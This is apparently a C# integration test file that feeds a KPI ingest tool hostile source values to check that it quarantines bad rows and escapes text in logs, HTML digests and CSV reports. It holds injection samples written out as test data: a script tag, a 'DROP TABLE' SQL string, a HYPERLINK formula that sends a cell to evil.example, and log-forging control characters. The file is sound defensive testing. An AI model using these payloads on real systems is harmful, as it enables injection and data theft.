using System.Globalization;
using System.Net;
using System.Text.Json.Nodes;
using KpiIngest.Core.Source;
using KpiIngest.IntegrationTests.Email;
using KpiIngest.IntegrationTests.Infrastructure;
using Microsoft.Data.Sqlite;
using Shouldly;
using Xunit;

namespace KpiIngest.IntegrationTests.Faults;

/// <summary>
/// Issue 6, "Hostile input": any value in any contract column (wrong types, huge strings, control characters, dates
/// in year 1 or 9999, NaN and infinite fees, a BLOB where text belongs, SQL, HTML and spreadsheet formulas as names)
/// is counted or quarantined, never crashes the run and never corrupts the store; source text is data everywhere:
/// SQL parameters, escaped in logs and kpi_quarantine, HTML-encoded in the digest, formula-safe in CSV reports.
/// SQLite's flexible typing lets the contract tables hold any of these, as a vendor's view might.
/// Dossiers are received yesterday so the alerts they open are mailed (indicators.md).
/// </summary>
public sealed class HostileInputTests
{
    private const string Html = "<script>alert('x')</script> Xã \"An\" & Hòa";
    private const string Sql = "'; DROP TABLE kpi_snapshot; --";
    private const string SqlUnitId = "x'; DROP TABLE kpi_snapshot; --";
    private const string Control = "Xã\u0007Chuông\r\n[00:00:00 ERR] giả mạo\u001b[31m đỏ\u202eNgược";

    private static readonly string Huge = new('x', 1_000_000);

    private static readonly byte[] BlobId = [1, 2, 3];

    /// <summary>Unit id → hostile but valid name: each unit misses ONLINE_DOSSIER (0 of 12 online) and is mailed.</summary>
    private static readonly (string UnitId, string Name)[] HostileUnits =
    [
        ("X-HTML", Html),
        ("X-EQ", "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Bấm vào đây\")"),
        ("X-PLUS", "+1"),
        ("X-MINUS", "-1"),
        ("X-AT", "@SUM(A1:A9)"),
        (SqlUnitId, Sql),
        ("X-CTRL", Control),
    ];

    private static readonly string Yesterday = MailProvince.YesterdayText;

    [Fact]
    public async Task Once_HostileValuesInEveryContractColumn_EachRowCountedOrQuarantinedStoreIntactTextTreatedAsData()
    {
        using var workspace = CreateHostileProvince();

        var first = await workspace.RunAsync("once", "--date", Yesterday);
        workspace.Store.ActiveQuarantine().ShouldContain(
            q => q.RecordKey == QuarantineEntry.KeyOf(BlobId) && q.Reason.Contains("dossier_id is not text"), first.Describe());
        var second = await workspace.RunAsync("once", "--date", Yesterday);   // quarantined rows are read again by key
        var reconcile = await workspace.RunAsync("reconcile");               // and the full key set compared
        var runs = new[] { first, second, reconcile };
        foreach (var run in runs)
        {
            run.ShouldSucceed();
        }

        var context = string.Join(Environment.NewLine, runs.Select(r => r.Describe()));
        workspace.Store.Runs().ShouldAllBe(r => r.Status == "SUCCEEDED", context);
        FaultProvince.IntegrityCheck(workspace.StorePath).ShouldBe("ok");
        workspace.Store.TableExists("kpi_snapshot").ShouldBeTrue();
        workspace.Store.Snapshots(Yesterday).ShouldContain(s => s.Scope == Kpi.Unit && s.ScopeId == SqlUnitId, "the SQL-looking unit is a unit like any other");

        EveryRowShouldBeCountedOrQuarantined(workspace, context);
        QuarantineShouldHoldTheBadRowsWithEscapedValues(workspace, context);
        workspace.Store.LatestRun().DossiersQuarantined.ShouldBe(
            workspace.Store.ActiveQuarantine().Count(q => q.Relation == SourceContract.Dossiers));

        // The NaN fee: SQLite stores NaN as NULL, so the dossier counts, without a fee.
        StoreImage.Lines(workspace.StorePath, "SELECT dossier_id FROM kpi_dossier_fact WHERE dossier_id = 'H-NAN-FEE'").ShouldHaveSingleItem();

        foreach (var run in runs)
        {
            ShouldHaveNoRawControlCharacter("the log on stderr", run.StdErr);
        }

        foreach (var log in Directory.GetFiles(Path.Combine(workspace.Root, "logs")))
        {
            ShouldHaveNoRawControlCharacter(log, await File.ReadAllTextAsync(log, TestContext.Current.CancellationToken));
        }

        DigestShouldShowEveryNameHtmlEncoded(workspace);
        await CsvReportsShouldBeFormulaSafe(workspace);
        await TableReportsShouldEscapeControlCharacters(workspace);
    }

    /// <summary>
    /// src_dossier as a view whose updated_at has no type: a number or NULL there sorts before every text in SQLite, so
    /// the keyset poll (updated_at &gt;= the watermark text) cannot see rows added with one after the first ingest. The
    /// reconciliation, which compares the full key set, finds and quarantines them: every row ends counted or
    /// quarantined, the poll's blind spot included.
    /// </summary>
    [Fact]
    public async Task Reconcile_UpdatedAtANumberOrNullInAView_FoundAndQuarantinedWhereThePollCannotSeeIt()
    {
        using var workspace = UntypedUpdatedAtProvince();
        (await workspace.RunAsync("once", "--date", "2024-04-30")).ShouldSucceed();
        workspace.ExecuteSource(UntypedUpdatedAtRows);

        var once = (await workspace.RunAsync("once", "--date", "2024-04-30")).ShouldSucceed();
        StoreImage.Lines(workspace.StorePath, "SELECT dossier_id FROM kpi_dossier_fact").ShouldBe(["GOOD"], once.Describe());
        workspace.Store.ActiveQuarantine().ShouldBeEmpty("the poll cannot see a row whose updated_at is not text");

        var reconcile = (await workspace.RunAsync("reconcile")).ShouldSucceed();

        ShouldBeQuarantinedForTheirUpdatedAt(workspace, reconcile);
    }

    /// <summary>The first ingest reads every row in one scan, whatever its updated_at: it quarantines them at once.</summary>
    [Fact]
    public async Task FirstIngest_UpdatedAtANumberOrNullInAView_QuarantinedByTheScan()
    {
        using var workspace = UntypedUpdatedAtProvince();
        workspace.ExecuteSource(UntypedUpdatedAtRows);

        var once = (await workspace.RunAsync("once", "--date", "2024-04-30")).ShouldSucceed();

        ShouldBeQuarantinedForTheirUpdatedAt(workspace, once);
    }

    private const string UntypedUpdatedAtRows =
        """
        INSERT INTO raw_dossier VALUES
            ('NUMBER', 'HS-2', 'X-A', 'P1', 2, 2, '2024-04-10 08:00:00', NULL, NULL, NULL, 0, 1, 0, 1, 20240410090000),
            ('NULL', 'HS-3', 'X-A', 'P1', 2, 2, '2024-04-10 08:00:00', NULL, NULL, NULL, 0, 1, 0, 1, NULL);
        """;

    /// <summary>One good dossier in a src_dossier view over a table whose columns have no type.</summary>
    private static ProvinceWorkspace UntypedUpdatedAtProvince()
    {
        var workspace = new ProvinceWorkspace();
        workspace.AddUnits(new UnitRow("X-A", "Xã An Hòa", 3));
        workspace.AddProcedures(new ProcedureRow("X-A", "P1", 3));
        workspace.ExecuteSource(
            """
            DROP TABLE src_dossier;
            CREATE TABLE raw_dossier (dossier_id, dossier_code, unit_id, procedure_code, channel, status, received_at, due_at,
                                      resolved_at, fee_amount, paid_online, digitized, e_result, reused_data, updated_at);
            CREATE VIEW src_dossier AS SELECT * FROM raw_dossier;
            INSERT INTO raw_dossier VALUES
                ('GOOD', 'HS-1', 'X-A', 'P1', 2, 2, '2024-04-10 08:00:00', NULL, NULL, NULL, 0, 1, 0, 1, '2024-04-10 09:00:00');
            """);
        return workspace;
    }

    private static void ShouldBeQuarantinedForTheirUpdatedAt(ProvinceWorkspace workspace, CliResult run)
    {
        var quarantined = workspace.Store.ActiveQuarantine().ToDictionary(q => q.RecordKey, q => q.Reason);
        quarantined.Keys.Order(StringComparer.Ordinal).ToList().ShouldBe(["NULL", "NUMBER"], run.Describe());
        quarantined["NUMBER"].ShouldContain("updated_at is not");
        quarantined["NULL"].ShouldContain("updated_at is missing");
        Counts(workspace.Store.Snapshots("2024-04-30", Kpi.Mtd)).ShouldBe((1L, 1L), "only GOOD counts");
    }

    private static (long N, long D) Counts(IReadOnlyList<StoredSnapshotRow> rows)
    {
        var row = rows.Single(r => r.Scope == Kpi.Province && r.Indicator == Kpi.OnlineDossier);
        return (row.Numerator, row.Denominator);
    }

    /// <summary>A terminal report is read on a terminal: an ESC in a unit name must not drive it.</summary>
    private static async Task TableReportsShouldEscapeControlCharacters(ProvinceWorkspace workspace)
    {
        foreach (var arguments in new[] { new[] { "report", "--date", Yesterday, "--scope", "UNIT" }, ["report", "--alerts"] })
        {
            var report = (await workspace.RunAsync(arguments)).ShouldSucceed();
            ShouldHaveNoRawControlCharacter(string.Join(' ', arguments), report.StdOut);
        }

        (await workspace.RunAsync("report", "--date", Yesterday, "--scope", "UNIT")).StdOut.ShouldContain("Xã\\u0007Chuông");
    }

    private static void EveryRowShouldBeCountedOrQuarantined(ProvinceWorkspace workspace, string context)
    {
        var quarantined = workspace.Store.ActiveQuarantine().Select(q => (q.Relation, q.RecordKey)).ToHashSet();
        var units = workspace.Store.Units().Select(u => u.UnitId).ToHashSet(StringComparer.Ordinal);
        var facts = StoreImage.Lines(workspace.StorePath, "SELECT dossier_id FROM kpi_dossier_fact").ToHashSet(StringComparer.Ordinal);
        foreach (var id in SourceKeys(workspace, "SELECT unit_id FROM src_unit"))
        {
            (units.Contains(id as string ?? "") || quarantined.Contains((SourceContract.Units, QuarantineEntry.KeyOf(id))))
                .ShouldBeTrue($"src_unit {RowCheck.Display(id)} is neither in kpi_unit nor quarantined.{Environment.NewLine}{context}");
        }

        // Known limitation: a BLOB dossier_id can never be found by key, so the next retry by key (or reconciliation)
        // takes "not found" for "gone" and clears its quarantine; it stays out of every figure (checked after the first run).
        foreach (var id in SourceKeys(workspace, "SELECT dossier_id FROM src_dossier").Where(id => id is not byte[]))
        {
            (facts.Contains(id as string ?? "") || quarantined.Contains((SourceContract.Dossiers, QuarantineEntry.KeyOf(id))))
                .ShouldBeTrue($"src_dossier {RowCheck.Display(id)} is neither counted nor quarantined.{Environment.NewLine}{context}");
        }
    }

    private static void QuarantineShouldHoldTheBadRowsWithEscapedValues(ProvinceWorkspace workspace, string context)
    {
        var quarantine = workspace.Store.ActiveQuarantine().ToDictionary(q => (q.Relation, q.RecordKey));
        var expected = new (string Relation, string Key, string Reason)[]
        {
            (SourceContract.Units, "U-LEVEL-TEXT", "level is not an integer"),
            (SourceContract.Units, "U-NAME-BLOB", "name is not text"),
            (SourceContract.Units, "U-NAME-HUGE", "name is longer than 255"),
            (SourceContract.Units, "U-YEAR-1", "active_from is outside the years"),
            (SourceContract.Units, "U-YEAR-9999", "active_to is outside the years"),
            (SourceContract.Procedures, QuarantineEntry.PairKeyOf("X-HTML", "P-BAD"), "online_mode is not an integer"),
            (SourceContract.Dossiers, "H-CHANNEL-TEXT", "channel is not an integer"),
            (SourceContract.Dossiers, "H-STATUS-REAL", "status is not an integer"),
            (SourceContract.Dossiers, "H-CODE-1MB", "dossier_code is longer than 64"),
            (SourceContract.Dossiers, "H-YEAR-1", "received_at is outside the years"),
            (SourceContract.Dossiers, "H-YEAR-9999", "due_at is outside the years"),
            (SourceContract.Dossiers, "H-INF-FEE", "fee_amount is not a number"),
            (SourceContract.Dossiers, "H-NEG-INF-FEE", "fee_amount is not a number"),
            (SourceContract.Dossiers, "H-BLOB-FEE", "fee_amount is not a number"),
            (SourceContract.Dossiers, "H-BLOB-PROCEDURE", "procedure_code is not text"),
            (SourceContract.Dossiers, "H-FLAG-TEXT", "digitized is not an integer"),
            (SourceContract.Dossiers, "H-HUGE-INTEGER", "paid_online is out of range"),
            (SourceContract.Dossiers, "H-CONTROL", "channel is not an integer"),
            (SourceContract.Dossiers, "H-UPDATED-9999", "updated_at is outside the years"),
            (SourceContract.Dossiers, "H-UPDATED-BLOB", "updated_at is not a date"),
        };
        foreach (var (relation, key, reason) in expected)
        {
            quarantine.ShouldContainKey((relation, key), $"{relation} {key} ({reason}) is not in quarantine.{Environment.NewLine}{context}");
            quarantine[(relation, key)].Reason.ShouldContain(reason, Case.Sensitive, context);
        }

        foreach (var entry in workspace.Store.Quarantine())
        {
            ShouldHaveNoRawControlCharacter($"kpi_quarantine.value_text of {entry.RecordKey}", entry.ValueText ?? "");
            (entry.ValueText ?? "").Length.ShouldBeLessThanOrEqualTo(RowCheck.MaxValueText, entry.RecordKey);
        }

        quarantine[(SourceContract.Dossiers, "H-CONTROL")].ValueText.ShouldNotBeNull().ShouldContain("\\u000d\\u000a[12:00:00 ERR] forged\\u001b[31m");
    }

    private static void DigestShouldShowEveryNameHtmlEncoded(ProvinceWorkspace workspace)
    {
        var eml = Directory.GetFiles(workspace.OutboxPath, "*.eml").ShouldHaveSingleItem("one PROVINCE recipient, one digest");
        var message = EmlMessage.Load(eml);
        var html = message.Html.ShouldNotBeNull();
        html.ShouldNotContain("<script>");
        html.ShouldContain("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;");
        html.ShouldContain(WebUtility.HtmlEncode(Html));
        html.ShouldContain(WebUtility.HtmlEncode(Sql));
        foreach (var (_, name) in HostileUnits.Where(u => u.UnitId.StartsWith("X-", StringComparison.Ordinal) && u.UnitId != "X-CTRL"))
        {
            html.ShouldContain(WebUtility.HtmlEncode(name), Case.Sensitive, "every hostile unit is in the digest, encoded");
        }

        ShouldHaveNoRawControlCharacter("the digest's HTML", html);
        ShouldHaveNoRawControlCharacter("the digest's plain text", message.PlainText ?? "");
        html.ShouldContain(WebUtility.HtmlEncode("Xã Chuông  [00:00:00 ERR] giả mạo [31m đỏ"), Case.Sensitive, "control characters become spaces");
    }

    private static async Task CsvReportsShouldBeFormulaSafe(ProvinceWorkspace workspace)
    {
        var reports = new List<CliResult> { (await workspace.RunAsync("report", "--date", Yesterday, "--scope", "UNIT", "--format", "csv")).ShouldSucceed() };
        if (MailProvince.ExpectedOpenStatus == "OPEN")
        {
            // `report --alerts` lists open alerts; when yesterday closed its month they are MISSED already.
            reports.Add((await workspace.RunAsync("report", "--alerts", "--format", "csv")).ShouldSucceed());
        }

        foreach (var report in reports)
        {
            var cells = Csv.Parse(report.StdOut).Skip(1).SelectMany(r => r).ToList();
            cells.ShouldNotBeEmpty(report.Describe());
            cells.ShouldAllBe(c => c.Length == 0 || !"=+-@\t\r".Contains(c[0]), report.Describe());
            foreach (var (_, name) in HostileUnits.Where(u => "=+-@".Contains(u.Name[0])))
            {
                cells.ShouldContain("'" + name, report.Describe());
            }
        }
    }

    private static void ShouldHaveNoRawControlCharacter(string what, string text)
    {
        var raw = text.Where(c => char.IsControl(c) && c is not ('\r' or '\n' or '\t')).Select(c => $"U+{(int)c:X4}").Distinct().ToList();
        raw.ShouldBeEmpty($"{what} holds raw control characters");
    }

    private static ProvinceWorkspace CreateHostileProvince()
    {
        var workspace = new ProvinceWorkspace();
        workspace.Configure(new JsonObject
        {
            ["Email"] = new JsonObject { ["Recipients"] = new JsonArray(MailProvince.Route("PROVINCE", null, "tinh@example.test")) },
        });
        workspace.AddUnits([.. HostileUnits.Select(u => new UnitRow(u.UnitId, u.Name, 3))]);
        Unit(workspace, "U-LEVEL-TEXT", name: "Xã Ba", level: "ba");
        Unit(workspace, "U-NAME-BLOB", name: new byte[] { 0xC3, 0x28, 0x00, 0xFF });
        Unit(workspace, "U-NAME-HUGE", name: Huge);
        Unit(workspace, "U-YEAR-1", activeFrom: "0001-01-01");
        Unit(workspace, "U-YEAR-9999", activeTo: "9999-12-31");
        workspace.AddProcedures([.. HostileUnits.Select(u => new ProcedureRow(u.UnitId, "P1", 3))]);
        workspace.ExecuteSource(
            "INSERT INTO src_procedure VALUES ('X-HTML', 'P-BAD', 'Thủ tục hỏng', 'ba', 0, 0, 1)");

        var good = HostileUnits.SelectMany(u => Enumerable.Range(0, 12).Select(i => new DossierRow($"G-{u.UnitId}-{i:D2}", u.UnitId, "P1")
        {
            DossierCode = i == 0 ? Sql : null,
            ReceivedAt = $"{Yesterday} 08:{i:D2}:00",
            Digitized = 1,
            ReusedData = 1,
            UpdatedAt = $"{Yesterday} 09:00:00",
        }));
        workspace.AddDossiers(good);

        Dossier(workspace, "H-CHANNEL-TEXT", ("channel", "online"));
        Dossier(workspace, "H-STATUS-REAL", ("status", 2.5));
        Dossier(workspace, "H-CODE-1MB", ("dossier_code", Huge));
        Dossier(workspace, "H-YEAR-1", ("received_at", "0001-01-01 00:00:00"));
        Dossier(workspace, "H-YEAR-9999", ("due_at", "9999-12-31 23:59:59"));
        Dossier(workspace, "H-NAN-FEE", ("fee_amount", new SqlExpression("9e999 - 9e999")));  // NaN: SQLite makes it NULL
        Dossier(workspace, "H-INF-FEE", ("fee_amount", new SqlExpression("9e999")));
        Dossier(workspace, "H-NEG-INF-FEE", ("fee_amount", new SqlExpression("-9e999")));
        Dossier(workspace, "H-BLOB-FEE", ("fee_amount", new byte[] { 1, 2 }));
        Dossier(workspace, "H-BLOB-PROCEDURE", ("procedure_code", new byte[] { 0x50, 0x31 }));
        Dossier(workspace, "H-FLAG-TEXT", ("digitized", "yes"));
        Dossier(workspace, "H-HUGE-INTEGER", ("paid_online", long.MaxValue));
        Dossier(workspace, "H-CONTROL", ("channel", "2\r\n[12:00:00 ERR] forged\u001b[31m"));
        Dossier(workspace, "H-UPDATED-9999", ("updated_at", "9999-12-31 23:59:59"));
        Dossier(workspace, "H-UPDATED-BLOB", ("updated_at", new byte[] { 0x32, 0x30 }));
        Dossier(workspace, BlobId);
        return workspace;
    }

    private static void Unit(ProvinceWorkspace workspace, string unitId, object? name = null, object? level = null,
        object? activeFrom = null, object? activeTo = null) =>
        workspace.ExecuteSource(
            "INSERT INTO src_unit (unit_id, parent_id, name, level, active_from, active_to) VALUES ($id, NULL, $name, $level, $from, $to)",
            ("$id", unitId), ("$name", name ?? "Xã Thử"), ("$level", level ?? 3), ("$from", activeFrom), ("$to", activeTo));

    /// <summary>A dossier received yesterday at X-HTML, with some columns replaced by hostile values of any type.</summary>
    private static void Dossier(ProvinceWorkspace workspace, object dossierId, params (string Column, object? Value)[] overrides)
    {
        var values = new Dictionary<string, object?>(StringComparer.Ordinal)
        {
            ["dossier_id"] = dossierId,
            ["dossier_code"] = "HS-HOSTILE",
            ["unit_id"] = "X-HTML",
            ["procedure_code"] = "P1",
            ["channel"] = 1,
            ["status"] = 2,
            ["received_at"] = $"{Yesterday} 08:30:00",
            ["due_at"] = null,
            ["resolved_at"] = null,
            ["fee_amount"] = null,
            ["paid_online"] = 0,
            ["digitized"] = 0,
            ["e_result"] = 0,
            ["reused_data"] = 0,
            ["updated_at"] = $"{Yesterday} 09:30:00",
        };
        foreach (var (column, value) in overrides)
        {
            values[column] = value;
        }

        workspace.ExecuteSource(
            $"INSERT INTO src_dossier ({string.Join(", ", values.Keys)}) " +
            $"VALUES ({string.Join(", ", values.Select(v => v.Value is SqlExpression e ? e.Text : "$" + v.Key))})",
            [.. values.Where(v => v.Value is not SqlExpression).Select(v => ("$" + v.Key, v.Value))]);
    }

    /// <summary>A value SQLite computes itself (Microsoft.Data.Sqlite refuses to bind NaN).</summary>
    private sealed record SqlExpression(string Text);

    private static List<object?> SourceKeys(ProvinceWorkspace workspace, string sql)
    {
        using var connection = new SqliteConnection($"Data Source={workspace.SourcePath};Mode=ReadOnly;Pooling=False");
        connection.Open();
        using var command = connection.CreateCommand();
        command.CommandText = sql;
        using var reader = command.ExecuteReader();
        var keys = new List<object?>();
        while (reader.Read())
        {
            keys.Add(reader.IsDBNull(0) ? null : reader.GetValue(0));
        }

        return keys;
    }
}
